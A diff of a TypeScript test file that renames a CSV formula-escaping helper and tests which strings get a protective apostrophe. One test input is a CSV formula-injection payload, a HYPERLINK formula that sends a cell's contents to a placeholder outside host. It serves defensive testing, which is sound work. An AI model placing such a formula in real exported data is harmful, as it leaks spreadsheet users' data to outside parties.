@@ -1,4 +1,4 @@
-import { guarded, toCsv } from './csv';
+import { escapeFormula, toCsv } from './csv';
 
 async function csvOf(names: string[], json: string, chunk = Infinity) {
   const bytes = Buffer.from(json);
@@ -107,7 +107,7 @@ describe('toCsv', () => {
   });
 });
 
-describe('guarded', () => {
+describe('escapeFormula', () => {
   it.each([
     '=1+1',
     '=HYPERLINK("https://elsewhere.example/?"&A1,"click")',
@@ -120,7 +120,7 @@ describe('guarded', () => {
     '\n',
     '\uFF1D1+1',
   ])('puts an apostrophe before %j', text => {
-    expect(guarded(text)).toBe(`'${text}`);
+    expect(escapeFormula(text)).toBe(`'${text}`);
   });
 
   it.each([
@@ -134,6 +134,6 @@ describe('guarded', () => {
     'x@y.z',
     '–',
   ])('leaves %j as it is', text => {
-    expect(guarded(text)).toBe(text);
+    expect(escapeFormula(text)).toBe(text);
   });
 });
